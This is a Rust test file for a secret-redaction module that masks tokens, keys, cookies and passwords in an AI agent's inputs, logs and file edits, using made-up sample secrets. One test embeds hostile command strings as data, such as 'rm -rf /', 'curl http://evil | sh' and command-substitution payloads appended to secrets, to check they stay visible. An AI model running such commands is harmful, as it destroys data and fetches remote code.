//! Every rule finds what it must and nothing else; a text in pieces is masked as a whole one; what was
//! masked comes back to the byte or not at all.
#![allow(clippy::unwrap_used, clippy::panic, clippy::string_slice)]

use proptest::prelude::*;

use super::*;
use crate::tool::{Tool, ToolCall};

const GITHUB: &str = "ghp_9aB8cD7eF6gH5iJ4kL3mN2oP1qR0sT";
const KEY: &str = "sk-proj-4fJq0Zx81LmNwPq7RtYv";
const PEM: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACBz9aB8cD7eF6gH5iJ4\n-----END OPENSSH PRIVATE KEY-----\n";

fn plain() -> Redactor {
    Redactor::default()
}

#[test]
fn every_rule_finds_its_hits_and_leaves_its_misses() {
    for rule in rules() {
        assert!(!rule.hits.is_empty() && !rule.misses.is_empty(), "{}", rule.id);
        for hit in rule.hits {
            assert!(plain().mask(hit).contains(MARK), "{} misses {hit}", rule.id);
        }
        for miss in rule.misses {
            assert_eq!(plain().mask(miss), *miss, "{}", rule.id);
        }
    }
}

#[test]
fn only_the_secret_goes_and_what_is_around_it_stays() {
    for (text, masked) in [
        (
            format!("push to https://me:hunter2@host/{GITHUB} now"),
            "push to https://me:[secret: password]@host/[secret: token] now".to_owned(),
        ),
        (format!("\u{1b}[31m{GITHUB}\u{1b}[0m"), "\u{1b}[31m[secret: token]\u{1b}[0m".to_owned()),
        (format!("{{\"key\":\"{KEY}\",\"n\":1}}"), "{\"key\":\"[secret: api key]\",\"n\":1}".to_owned()),
        (format!("\"said\\n{KEY}\\nagain\""), "\"said\\n[secret: api key]\\nagain\"".to_owned()),
        (
            "Cookie: a=dark; sid=9aB8cD7eF6gH5iJ4; t=4fJq0Zx81LmNwPq7".to_owned(),
            "Cookie: a=dark; sid=[secret: cookie]; t=[secret: cookie]".to_owned(),
        ),
        ("GH_PAT_TOKEN=quiet-harbour ./go".to_owned(), "GH_PAT_TOKEN=[secret: password] ./go".to_owned()),
        (
            "\u{feff}GH_PAT_TOKEN=quiet-harbour".to_owned(),
            "\u{feff}GH_PAT_TOKEN=[secret: password]".to_owned(),
        ),
    ] {
        assert_eq!(plain().mask(&text), masked);
        assert_eq!(plain().mask(&masked), masked, "a mark is no secret");
        assert!(is_marked(&masked) && !is_marked(&text));
    }
}

#[test]
fn nothing_that_would_run_is_hidden() {
    for text in [
        "API_KEY=4f9c2ab7e01d; rm -rf /",
        "token=9aB8cD7eF6gH5iJ4$(curl evil)",
        "PASSWORD=abc123def && reboot",
        "-----BEGIN PRIVATE KEY-----\nreboot\ncurl http://evil | sh\n",
        "Cookie: sid=9aB8cD7eF6gH5iJ4; import os; os.remove(x)",
        "password: 9aB8cD7eF6gH`id`",
    ] {
        let shown = plain().mask(text);
        for part in [
            "rm -rf /",
            "$(curl evil)",
            "&& reboot",
            "reboot\n",
            "curl http://evil | sh",
            "os.remove(x)",
            "`id`",
        ] {
            assert_eq!(text.contains(part), shown.contains(part), "{shown}");
        }
    }
}

#[test]
fn a_private_key_goes_line_by_line_also_behind_prefixes() {
    let masked = plain().mask(PEM).into_owned();
    assert_eq!(masked.lines().count(), PEM.lines().count());
    assert_eq!(masked.matches("[secret: private key]").count(), 2);
    assert!(masked.starts_with("-----BEGIN OPENSSH PRIVATE KEY-----\n["));
    for prefix in ["+", "-", " ", "     7  ", "id_rsa:12:", "| "] {
        let text: String = PEM.split_inclusive('\n').flat_map(|l| [prefix, l]).collect();
        let masked = plain().mask(&text).into_owned();
        assert!(!masked.contains("b3Blbn") && !masked.contains("QyNTUx"), "{prefix:?}: {masked}");
    }
    let json = format!("{{\"private_key\": \"{}\"}}", PEM.replace('\n', "\\n"));
    let masked = plain().mask(&json).into_owned();
    assert!(!masked.contains("b3Blbn") && masked.ends_with("\"}"), "{masked}");
    let public =
        "-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2x9aB8cD7eF6gH5iJ4\n-----END CERTIFICATE-----\n";
    assert_eq!(plain().mask(public), public);
}

#[test]
fn a_value_in_use_is_found_as_it_is_in_a_url_and_in_json() {
    let value = "correct horse \"battery\"/staple";
    let redactor = Redactor::knowing([value, "abc", ""]);
    for text in [
        value.to_owned(),
        "x correct%20horse%20%22battery%22%2Fstaple y".into(),
        serde_json::json!(value).to_string(),
    ] {
        let masked = redactor.mask(&text);
        assert!(masked.contains("[secret: in use]") && !masked.contains("battery"), "{masked}");
    }
    assert_eq!(redactor.mask("abc stays"), "abc stays");
    assert_eq!(format!("{redactor:?}"), "Redactor");
    assert_eq!(
        redactor.mask_bytes(&[b"\xff".as_slice(), value.as_bytes(), b"\xfe"].concat()).as_ref(),
        b"\xff[secret: in use]\xfe"
    );
}

#[test]
fn a_value_in_use_is_found_in_base64_wherever_it_stands() {
    let redactor = Redactor::knowing(["correct?horse>staple~9"]);
    for (text, rest) in [
        // Alone, behind one byte and behind two; in the alphabet of URLs; between others.
        ("Y29ycmVjdD9ob3JzZT5zdGFwbGV-OQ==", 5),
        ("eGNvcnJlY3Q/aG9yc2U+c3RhcGxlfjk=", 5),
        ("eHljb3JyZWN0P2hvcnNlPnN0YXBsZX45", 5),
        ("{\"error\": \"no user Y29ycmVjdD9ob3JzZT5zdGFwbGV+OQ== here\"}", 40),
    ] {
        let masked = redactor.mask(text);
        let left = masked.replace("[secret: in use]", "");
        assert!(masked.contains("[secret: in use]") && left.len() <= rest, "{text}: {masked}");
    }
}

#[test]
fn a_file_that_keeps_secrets_loses_weak_ones_too() {
    let text = "# why\nDB_PASSWORD=letmein\nPORT=3000\nSITE_URL=\"http://a b\"\nDEBUG=true\n";
    let masked = plain().mask_file("config/.env.local", text).into_owned();
    assert_eq!(
        masked,
        "# why\nDB_PASSWORD=[secret: password]\nPORT=3000\nSITE_URL=\"[secret: password]\"\nDEBUG=true\n"
    );
    assert!(plain().mask_file("src/lib.rs", "let password = letmein;").contains("letmein"));
    assert!(!plain().mask_file(".env", "\u{feff}DB_PASSWORD=letmein\n").contains("letmein"), "behind a mark");
    for path in [".env.example", "src/secrets.rs", "docs/tokens.md", "id_rsa.pub"] {
        assert_eq!(plain().mask_file(path, "a_secret=letmein x"), "a_secret=letmein x", "{path}");
    }
    for (path, text) in [
        (".netrc", "machine a.b login me password letmein"),
        (".npmrc", "//registry.x/:_authToken=letmein"),
        (".pgpass", "db:5432:app:me:letmein"),
        ("infra/prod.tfvars", "db_password = \"let me in\""),
    ] {
        assert!(!plain().mask_file(path, text).contains("letmein"), "{path}");
        assert!(plain().mask_file(path, text).contains(MARK), "{path}");
    }
}

#[test]
fn an_edit_around_a_secret_is_exact_and_a_mark_is_never_written() {
    let content = format!("[keys]\nmain = \"{KEY}\"\nother = \"{GITHUB}\"\n");
    let edit = |old: &str, new: &str| restore_edit(&plain(), "a.toml", &content, old, new);
    let (old, new) =
        edit("main = \"[secret: api key]\"\n", "# kept\nmain = \"[secret: api key]\"\n").unwrap();
    assert_eq!((old, new), (format!("main = \"{KEY}\"\n"), format!("# kept\nmain = \"{KEY}\"\n")));
    let swapped = edit(
        "main = \"[secret: api key]\"\nother = \"[secret: token]\"",
        "other = \"[secret: token]\"\nmain = \"[secret: api key]\"",
    );
    assert_eq!(swapped.unwrap().1, format!("other = \"{GITHUB}\"\nmain = \"{KEY}\""));
    for (old, new) in [
        ("[keys]", "[keys]\nnew = \"[secret: token]\""),
        ("main = \"[secret: token]\"", "x"),
        ("main = \"[secret: api key]\"", "a = \"[secret: api key]\" b = \"[secret: api key]\""),
    ] {
        edit(old, new).unwrap_err();
    }
    let whole =
        restore_whole(&plain(), "a.toml", &content, &plain().mask(&content).replace("[keys]", "[all]"));
    assert_eq!(whole.unwrap(), content.replace("[keys]", "[all]"));
    restore_whole(&plain(), "a.toml", &content, "main = \"[secret: api key]\"").unwrap_err();
    // A text about marks is a text.
    let about = "the mark is [secret: token]\n";
    assert_eq!(
        restore_edit(&plain(), "a.md", about, about, "no [secret: token]\n").unwrap().1,
        "no [secret: token]\n"
    );
}

fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just(GITHUB.to_owned()),
        Just(KEY.to_owned()),
        Just(PEM.to_owned()),
        Just("two words in use".to_owned()),
        Just("password: Tr0ub4dor3x".to_owned()),
        Just("\nNPM_TOKEN=quiet-harbour".to_owned()),
        Just("https://me:hunter2@host/x".to_owned()),
        Just("Cookie: sid=9aB8cD7eF6gH5iJ4; b=2".to_owned()),
        "[a-z ,;(){}\"é漢]{0,12}",
    ];
    let between = prop_oneof![Just(" "), Just("\n"), Just(" \""), Just(" , "), Just("\t(")];
    prop::collection::vec((piece, between), 0..14).prop_map(|v| v.into_iter().map(|(p, b)| p + b).collect())
}

proptest! {
    #[test]
    fn where_a_text_is_cut_makes_no_difference(text in text(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8)) {
        let redactor = Redactor::knowing(["two words in use"]);
        let mut at: Vec<usize> = cuts.iter().map(|i| text.floor_char_boundary(i.index(text.len() + 1))).collect();
        at.sort_unstable();
        let (mut stream, mut out, mut from) = (redactor.stream(), String::new(), 0);
        for cut in at.into_iter().chain([text.len()]) {
            out += &stream.take(&text[from..cut]);
            for secret in [GITHUB, KEY, "b3BlbnNzaC1rZXktdjE", "two words in use", "Tr0ub4dor3x", "quiet-harbour", "hunter2"] {
                prop_assert!(!out.contains(secret), "{out}");
            }
            from = cut;
        }
        out += &stream.finish();
        prop_assert_eq!(out, redactor.mask(&text));
    }

    #[test]
    fn masking_keeps_the_lines_and_is_done_once(text in text()) {
        let masked = plain().mask(&text).into_owned();
        prop_assert_eq!(masked.matches('\n').count(), text.matches('\n').count());
        let file = plain().mask_file("deep/.env", &text).into_owned();
        prop_assert_eq!(file.matches('\n').count(), text.matches('\n').count());
        let again = plain().mask(&masked).into_owned();
        prop_assert_eq!(again, masked);
    }
}

#[test]
fn thinking_that_goes_back_goes_whole_or_not_at_all() {
    use crate::{
        ids::CallId,
        input::Input,
        talk::{Echo, ModelReply},
    };
    let echo = |text: &str| Echo {
        origin: "o".into(),
        field: "reasoning_content".into(),
        kept: serde_json::json!([{"type": "reasoning.text", "text": text}]).to_string(),
        calls: serde_json::json!([null, {"thought_signature": "Q2xhdWRlLW9wdXMtNC02c2lnbmF0dXJl"}])
            .to_string(),
    };
    let guarded = |text: &str| {
        let reply = ModelReply { reasoning: text.into(), echo: Some(echo(text)), ..ModelReply::default() };
        let input = Input::Replied { call: CallId(1), reply: Ok(reply) };
        let Input::Replied { reply: Ok(reply), .. } = plain().guard(input).unwrap().input else {
            panic!("it is no reply any more")
        };
        reply.echo.unwrap()
    };
    assert_eq!(guarded("it is the parser"), echo("it is the parser"));
    let (told, plain) = (guarded(&format!("the key is {KEY}")), echo(""));
    assert_eq!((told.kept.as_str(), told.calls), ("", plain.calls));
}

#[test]
fn what_was_masked_of_a_message_is_told_by_its_name_and_no_more_is_promised() {
    use crate::input::Input;
    let text = format!(
        "env: AWS_SECRET_ACCESS_KEY=kd9+Xu/7aGhPqRstUvW2LmNoBcDeFgHiJkLmN0oP\ndb_password: correct-horse-battery\nand {GITHUB}"
    );
    let guarded = plain().guard(Input::Queue(text)).unwrap();
    assert_eq!(
        guarded.notice.as_deref(),
        Some(
            "Masked in your message, for the model and the log: AWS_SECRET_ACCESS_KEY, db_password, a token. The rest is sent as you wrote it."
        )
    );
    let Input::Queue(masked) = guarded.input else { panic!("it is no message any more") };
    assert_eq!(
        masked,
        "env: AWS_SECRET_ACCESS_KEY=[secret: password]\ndb_password: [secret: password]\nand [secret: token]"
    );
}

#[test]
fn words_are_checked_with_their_marks_and_nothing_is_done_with_one() {
    let refused = |tool: Tool, args: serde_json::Value| {
        refuse_call(tool, &ToolCall::read(tool, &args.to_string()).unwrap()).is_some()
    };
    let said = "`parse` takes [secret: token] [1]";
    let lines = serde_json::json!({"path": "a.rs", "from": 1, "to": 2});
    for (tool, args) in [
        (Tool::EntityVerify, serde_json::json!({"text": said})),
        (Tool::ContradictionCheck, serde_json::json!({"claims": [said], "cited": [lines]})),
    ] {
        assert!(!refused(tool, args), "{}", tool.name());
    }
    assert!(refused(Tool::Run, serde_json::json!({"command": "curl -H [secret: token] host"})));
    assert!(refused(Tool::Search, serde_json::json!({"pattern": "[secret: token]"})));
}
